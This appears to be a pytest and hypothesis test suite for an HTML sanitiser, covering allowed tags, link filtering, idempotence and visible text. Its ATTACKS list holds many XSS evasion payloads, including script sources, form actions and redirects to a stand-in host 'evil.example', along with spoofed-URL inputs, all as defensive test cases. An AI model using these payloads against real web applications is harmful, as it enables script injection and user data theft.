from __future__ import annotations

import re
from unicodedata import normalize

import pytest
from hypothesis import given
from hypothesis import strategies as st

from delivery.deliverables.markup import Open, read
from delivery.deliverables.sanitise import ATTRIBUTES, LIMIT, TAGS, sanitise, visible_text
from tests.delivery.checks.builders import HERO

PIECES = st.sampled_from(
    [
        *(f"<{tag}>" for tag in sorted(TAGS)),
        *(f"</{tag}>" for tag in sorted(TAGS)),
        "<object>",
        "</object>",
        "<svg>",
        "</svg>",
        "<math>",
        "<mtext>",
        "<style>",
        "</style>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<noscript>",
        "<form>",
        "<select>",
        "<template>",
        "<textarea>",
        "<title>",
        "<plaintext>",
        "\u0338",
        "\u0301",
        "\u0323",
        "é",
        "\x00",
        "\r\n",
        "\ud800",
        "&",
        "&lt;",
        "&#x338;",
        "<",
        ">",
        '"',
        "<a href='javascript:x'>",
        "<a href='#x'>",
        f"<img src=asset:{HERO} alt='x'>",
        "<p lang=de onclick=x>",
        "<td onclick=x colspan=2>",
        "text",
        " ",
        "<b a=1>",
        "<font color=red>",
        "<div>",
        "</div>",
    ]
)
HTML = st.one_of(st.lists(PIECES, max_size=40).map("".join), st.text(max_size=200))

# From https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, and
# mutations published against sanitisers.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='x 1x, javascript:alert(1) 2x' src='https://a.example/x.png'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        "onerror=alert(1)&gt;'>"
    ),
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<select><iframe></select><img src=x: onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    (
        "<form action='https://evil.example'><button "
        "formaction='javascript:alert(1)'>x</button></form>"
    ),
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    (
        "<base href='//evil.example/'><link rel=stylesheet href='//evil.example'><meta "
        "http-equiv=refresh content='0;url=//evil.example'>"
    ),
    "<p style='background:url(javascript:alert(1))' class=x id=y>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p/onclick=alert(1)>x",
    "<img \x00src=x \x00onerror=alert(1)>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_gets_through(attack: str) -> None:
    only_articles(sanitise(attack))


@pytest.mark.parametrize(
    "address",
    [
        "https://good.example@evil.example/",
        "HTTPS://good.example:443@evil.example",
        "https:good.example@evil.example",
        "ht\ntps:/\t/good.example@evil.example",
        "//good.example@evil.example/",
        "https://good.example/\u202egpj.exe",
        "https://good.exam\u200bple/",
    ],
)
def test_h18_an_address_that_looks_like_another_is_left_out(address: str) -> None:
    assert sanitise(f'<a href="{address}">x</a>') == '<a rel="noopener">x</a>'
    assert sanitise(f'<img src="{address}">') == "<img>"


@pytest.mark.parametrize(
    "address",
    [
        "https://example.com/@somebody?mail=a@b.example#@",
        "mailto:a@example.com",
        "/teams/@us",
        "https://fa.example/\u0645\u06cc\u200c\u0634\u0648\u062f",
    ],
)
def test_h18_an_address_that_names_somebody_stays(address: str) -> None:
    assert f'href="{address}"' in sanitise(f'<a href="{address}">x</a>')


@given(HTML)
def test_any_html_comes_out_as_an_article_and_the_same_again(html: str) -> None:
    clean = sanitise(html)

    assert sanitise(clean) == clean
    assert normalize("NFC", clean) == clean
    only_articles(clean)


def only_articles(clean: str) -> None:
    for piece in read(clean):
        if isinstance(piece, Open):
            assert piece.tag in TAGS
            assert piece.attributes.keys() <= ATTRIBUTES["*"] | ATTRIBUTES.get(piece.tag, set()) | {
                "rel"
            }
            assert re.fullmatch(r"asset:[0-9a-f]{64}|https://.*|", piece.attributes.get("src", ""))
            scheme = re.match(r"\s*([\w+.-]*):", piece.attributes.get("href", ""))
            assert scheme is None or scheme[1].lower() in ("http", "https", "mailto", "tel")


@pytest.mark.parametrize(
    "article",
    [
        (
            "<h2>One</h2><h3>Two</h3><p>Text with <em>stress</em>, <strong>weight</strong> and "
            "<code>code</code>.</p>"
        ),
        (
            f'<figure><img src="asset:{HERO}" alt="A bridge" width="16" '
            f'height="9"><figcaption>Dawn</figcaption></figure>'
        ),
        (
            '<p><a href="https://example.com/?a=1&amp;b=2" rel="noopener">out</a> <a href="/in" '
            'rel="noopener">in</a></p>'
        ),
        (
            '<p><a href="mailto:a@example.com" rel="noopener">mail</a> <a href="tel:+4930123" '
            'rel="noopener">call</a></p>'
        ),
        (
            '<table><caption>Prices</caption><tbody><tr><th scope="col">What</th><td '
            'colspan="2">1</td></tr></tbody></table>'
        ),
        (
            '<blockquote><p lang="fr" dir="ltr">Oui</p></blockquote><ol '
            'start="3"><li>x</li></ol><hr><pre>a\n b</pre>'
        ),
        "<details><summary>More</summary><p>Text<br>line</p></details>",
    ],
)
def test_an_article_stays_as_it_is(article: str) -> None:
    assert sanitise(article) == article


def test_links_within_links_become_links_after_each_other() -> None:
    nested = "<a href='/1'>1<object><a href='/2'>2</a></object></a>"

    assert sanitise(nested) == '<a href="/1" rel="noopener">1</a><a href="/2" rel="noopener">2</a>'


@pytest.mark.parametrize(
    "html", ["x" * (LIMIT + 1), "&" * LIMIT, "<div>" * 40_000, "<b a=1>" * 14_000 + "<p>x" * 20_000]
)
def test_what_is_too_much_is_refused_in_words(html: str) -> None:
    with pytest.raises(ValueError, match="The text has"):
        sanitise(html)


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<h2>One</h2><p>Two <em>th</em>ree\n  four</p>", "One\nTwo three four"),
        ("<table><tr><td>a<td>b</table>c<br>d", "a\nb\nc\nd"),
        ("<script>no</script><p hidden>yes</p><style>no</style>&amp;&nbsp;x", "yes\n& x"),
        ("<p>Cafe\u0301</p>\ud800", "Café\n\ufffd"),
        ("", ""),
    ],
)
def test_visible_text_is_what_a_reader_sees(html: str, text: str) -> None:
    assert visible_text(html) == text


@given(HTML)
def test_cleaning_takes_nothing_from_what_a_reader_sees(html: str) -> None:
    clean = sanitise(html)

    assert visible_text(sanitise(clean)) == visible_text(clean)
    assert "<" not in visible_text(re.sub("<|&lt;", "", html))
